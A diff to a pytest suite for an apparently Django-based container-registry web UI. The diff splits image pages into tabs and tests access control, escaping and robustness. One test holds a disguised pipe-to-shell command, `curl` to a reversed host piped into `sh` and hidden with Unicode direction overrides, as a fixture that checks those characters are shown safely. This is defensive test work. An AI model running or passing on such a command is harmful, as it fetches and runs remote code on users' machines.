@@ -40,16 +40,24 @@ def viewer(cast: Cast) -> Client:
     return cast.client("viewer")
 
 
-def page(client: Client, tag: str = "1.0", query: str = "") -> Any:
-    answer = client.get(f"{AT}tags/{tag}/{query}")
+TABS = ("overview", "layers", "configuration", "referrers", "pulls")
+
+
+def page(client: Client, name: str = "overview", tag: str = "1.0", **query: str) -> Any:
+    """Return the answer for one tab of the page."""
+    answer = client.get(f"{AT}tags/{tag}/", {"tab": name, **query})
     assert answer.status_code == 200
     return answer
+
+
+def all_tabs(client: Client, tag: str = "1.0") -> str:
+    return "".join(page(client, name, tag).content.decode() for name in TABS)
 
 
 @pytest.mark.parametrize("who", MEMBERS)
 def test_members_see_all_of_it(cast: Cast, image: Image, who: str) -> None:
     made = things.put(image, things.image_document("a", "b"), config=CONFIG, tag="1.0", created_at=NOW)
-    text = page(cast.client(who)).content.decode()
+    text = all_tabs(cast.client(who))
     for each in (made.digest, "linux/amd64",
                  "COPY a /", "RUN b", "PATH=/bin", "TOKEN=&lt;b&gt;", "80/tcp", "/srv", "1000", "items",
                  "docker pull", "podman pull", "skopeo copy", "crane pull", f"deep/app@{made.digest}"):  # fmt: skip
@@ -77,14 +85,14 @@ def test_each_platform_of_an_index_can_be_chosen(image: Image, viewer: Client) -
     made = [(put(each), f"linux/{each}") for each in ("386", "amd64", "arm64")]
     things.put(image, things.index_document(*made, annotations={"of": "index"}), tag="1.0")
 
-    def commands(query: str) -> list[str]:
-        return [layer.command for layer in page(viewer, query=query).context["details"].layers]
+    def commands(**query: str) -> list[str]:
+        return [layer.command for layer in page(viewer, "layers", **query).context["details"].layers]
 
-    assert commands("") == ["RUN amd64"]
-    assert commands("?platform=linux/arm64") == ["RUN arm64"]
-    assert commands(f"?platform={made[0][0].digest}") == ["RUN 386"]
-    assert commands("?platform=plan9/pdp11") == ["RUN amd64"]
-    assert page(viewer).context["index_annotations"] == (("of", "index"),)
+    assert commands() == ["RUN amd64"]
+    assert commands(platform="linux/arm64") == ["RUN arm64"]
+    assert commands(platform=made[0][0].digest) == ["RUN 386"]
+    assert commands(platform="plan9/pdp11") == ["RUN amd64"]
+    assert page(viewer, "configuration").context["index_annotations"] == (("of", "index"),)
 
 
 def test_another_images_manifest_is_not_shown_by_its_digest(cast: Cast, image: Image, viewer: Client) -> None:
@@ -92,14 +100,14 @@ def test_another_images_manifest_is_not_shown_by_its_digest(cast: Cast, image: I
     hidden = things.put(theirs, things.image_document("secret"), config=things.image_config("RUN secret"))
     things.put(image, things.index_document((hidden, "linux/amd64")), tag="1.0")
     shown = page(viewer)
-    assert "RUN secret" not in shown.content.decode()
+    assert "RUN secret" not in all_tabs(viewer)
     assert (shown.context["shown"], len(shown.context["platforms"])) == (None, 1)
     assert viewer.get(f"{AT}manifests/{hidden.digest}/").status_code == 404
     assert viewer.get(f"{AT}manifests/{hidden.digest}/download/").status_code == 404
     # Nor does naming its digest bring what is hung onto it, or make it hang onto ours.
     ours = things.put(image, things.image_document("ours"), tag="ours")
     things.put(theirs, things.image_document("x", subject={"digest": ours.digest}, artifactType="a/b"))
-    assert page(viewer, "ours").context["referrers"] == []
+    assert page(viewer, tag="ours").context["referrers"] == []
 
 
 def test_a_platform_named_twice_is_told_apart_by_digest(image: Image, viewer: Client) -> None:
@@ -153,7 +161,7 @@ def test_an_artifact_of_a_type_that_nobody_knows_tells_its_type(image: Image, vi
             "b", subject={"digest": top.digest}, artifactType="application/spdx+json", config_type="x"
         ),
     )
-    text = page(viewer).content.decode()
+    text = page(viewer, "referrers").content.decode()
     assert "application/vnd.example.scan" in text
     assert "application/spdx+json" not in text
 
@@ -163,18 +171,18 @@ def test_an_index_of_what_is_for_no_platform_lists_what_it_holds(image: Image, v
         image, things.image_document("f", artifactType="application/vnd.wasm.x", config_type="x")
     )
     things.put(image, things.index_document((files, "")), tag="1.0")
-    shown = page(viewer)
+    shown = page(viewer, "referrers")
     assert shown.context["artifact_kind"].label == "OCI index"
     assert [each.artifact_kind.label for each in shown.context["referrers"]] == ["WASM module"]
     text = shown.content.decode()
     assert "Listed here" in text
-    assert "docker pull" not in text
+    assert "docker pull" not in all_tabs(viewer)
 
 
 def test_a_signature_whose_subject_is_gone_says_so(image: Image, viewer: Client) -> None:
     name = "sha256-" + "c" * 64 + ".sig"
     things.put(image, things.image_document("sig"), tag=name)
-    shown = page(viewer, name)
+    shown = page(viewer, tag=name)
     assert shown.context["subject"].manifest is None
     assert "not in this image" in shown.content.decode()
 
@@ -200,7 +208,7 @@ def test_who_pushed_and_who_pulled(cast: Cast, image: Image, viewer: Client) -> 
     PullStats.objects.create(
         image=image, tag="1.0", username="watcherwatch", last_at=NEVER, checks=41, checked_at=NOW
     )
-    shown = page(viewer)
+    shown = page(viewer, "pulls")
     assert shown.context["pusher"] == "CI deploy"
     assert [(each.count, each.checks, each.user) for each in shown.context["pullers"]] == [
         (5, 0, user),
@@ -212,6 +220,7 @@ def test_who_pushed_and_who_pulled(cast: Cast, image: Image, viewer: Client) -> 
     assert shown.context["by_digest"].count == 3
     for each in ("CI deploy", user.username, "192.0.2.9", "docker/27", "anonymous"):
         assert each in shown.content.decode()
+    assert "7 times" in page(viewer).content.decode()
     assert "99" not in [str(each.count) for each in shown.context["pullers"]]
 
 
@@ -220,7 +229,7 @@ def test_that_there_are_more_pullers_than_are_shown_is_said(image: Image, viewer
     factories.TagFactory(image=image, name="1.0")
     for number in range(SHOWN_MAX + more):
         PullStats.objects.create(image=image, tag="1.0", username=f"user{number}", last_at=NOW, count=1)
-    shown = page(viewer)
+    shown = page(viewer, "pulls")
     assert len(shown.context["pullers"]) == SHOWN_MAX
     assert ("Only the latest 50" in shown.content.decode()) is bool(more)
 
@@ -242,12 +251,12 @@ def test_a_user_of_another_account_is_not_named(
         address="192.0.2.9",
         client="docker/27",
     )
-    text = page(viewer).content.decode()
+    text = page(viewer, "pulls").content.decode()
     assert "a user of another account" in text
-    assert foreign.username not in text
+    assert foreign.username not in all_tabs(viewer)
     assert "192.0.2.9" not in text
     PullStats.objects.update(username="deletedlongago")
-    assert ("deletedlongago" in page(viewer).content.decode()) is not public
+    assert ("deletedlongago" in page(viewer, "pulls").content.decode()) is not public
 
 
 def test_before_and_now_is_offered_once_it_moved(image: Image, viewer: Client) -> None:
@@ -315,7 +324,10 @@ def test_nothing_that_is_pushed_breaks_a_page(image: Image, viewer: Client, docu
         "Labels": {"items": EVIL, "keys": EVIL, EVIL: EVIL},
         "ExposedPorts": {"\x00": 1, "\ud800": 2, EVIL: {}}, "User": {"a": 1}, "WorkingDir": 7}}  # fmt: skip
     made = things.put(image, document, config=config, tag="1.0")
-    for path in ("tags/1.0/", f"manifests/{made.digest}/", f"compare/?left=1.0&right={made.digest}"):
+    pages = [
+        f"{path}?tab={name}" for path in ("tags/1.0/", f"manifests/{made.digest}/") for name in (*TABS, "raw")
+    ]
+    for path in (*pages, f"compare/?left=1.0&right={made.digest}"):
         answer = viewer.get(AT + path)
         assert answer.status_code == 200
         assert EVIL not in answer.content.decode()
@@ -333,8 +345,9 @@ def test_no_json_breaks_a_page(image: Image, viewer: Client, document: Any, conf
     made = things.put(image, body, config=config)
     image.tags.all().delete()
     things.point(image, "1.0", made)
-    page(viewer)
-    assert viewer.get(f"{AT}manifests/{made.digest}/").status_code == 200
+    all_tabs(viewer)
+    for name in ("overview", "raw"):
+        assert viewer.get(f"{AT}manifests/{made.digest}/?tab={name}").status_code == 200
 
 
 def test_200_layers_and_127_platforms(image: Image, viewer: Client) -> None:
@@ -346,7 +359,7 @@ def test_200_layers_and_127_platforms(image: Image, viewer: Client) -> None:
         config = things.image_config(*commands, architecture=f"a{number}")
         made.append((things.put(image, document, config=config), f"linux/a{number}"))
     things.put(image, things.index_document(*made), tag="1.0")
-    shown = page(viewer, query="?platform=linux/a5")
+    shown = page(viewer, "layers", platform="linux/a5")
     assert len(shown.context["platforms"]) == 127
     assert len(shown.context["details"].layers) == 200
 
@@ -368,7 +381,7 @@ def test_what_turns_the_direction_of_reading_is_made_to_be_seen(image: Image, vi
     config = things.image_config(turned, Labels=labels, Env=[f"A={turned}"])
     notes = {"org.opencontainers.image.vendor": turned}
     things.put(image, things.image_document("a", annotations=notes), config=config, tag="1.0")
-    text = page(viewer).content.decode()
+    text = all_tabs(viewer)
     for hidden in "\u202e\u2066\u200b":
         assert hidden not in text
     assert text.count(r"curl \u202egnp.live\u2066 | sh") >= 4
@@ -384,3 +397,41 @@ def test_a_list_calls_it_what_its_page_calls_it(viewer: Client, image: Image) ->
     words = page(viewer).context["artifact_kind"].label
     assert words == "Docker image, schema 1"
     assert words in viewer.get(image.get_absolute_url()).content.decode()
+
+
+@pytest.mark.parametrize(
+    ("document", "names"),
+    [
+        (things.image_document("a"), list(TABS)),
+        ({"manifests": []}, ["overview", "pulls"]),
+        (
+            things.image_document("b", artifactType="application/vnd.wasm.x", config_type="x"),
+            ["overview", "layers", "pulls"],
+        ),
+    ],
+)
+def test_the_tabs_are_those_that_hold_something(
+    image: Image, viewer: Client, document: Any, names: list[str]
+) -> None:
+    things.put(image, document, tag="1.0")
+    shown = page(viewer)
+    links = [each["url"] for each in shown.context["subtabs"]]
+    assert links == [f"?tab={name}" for name in names]
+    for name, link in zip(names, links, strict=True):
+        answer = viewer.get(f"{AT}tags/1.0/{link}")
+        assert answer.context["tab"] == name
+        assert [each["current"] for each in answer.context["subtabs"]].count(True) == 1
+
+
+@pytest.mark.parametrize("asked", ["", "raw", "Layers", "x" * 3000, "\x00"])
+def test_a_tab_that_there_is_not_is_the_overview(image: Image, viewer: Client, asked: str) -> None:
+    things.put(image, things.image_document("a"), tag="1.0")
+    assert page(viewer, asked).context["tab"] == "overview"
+
+
+def test_the_chosen_platform_is_kept_from_tab_to_tab(image: Image, viewer: Client) -> None:
+    made = [(things.put(image, things.image_document(each)), f"linux/{each}") for each in ("amd64", "arm64")]
+    things.put(image, things.index_document(*made), tag="1.0")
+    shown = page(viewer, "layers", platform="linux/arm64")
+    assert "?tab=configuration&platform=linux%2Farm64" in [each["url"] for each in shown.context["subtabs"]]
+    assert "platform" not in page(viewer, "layers").context["subtabs"][0]["url"]
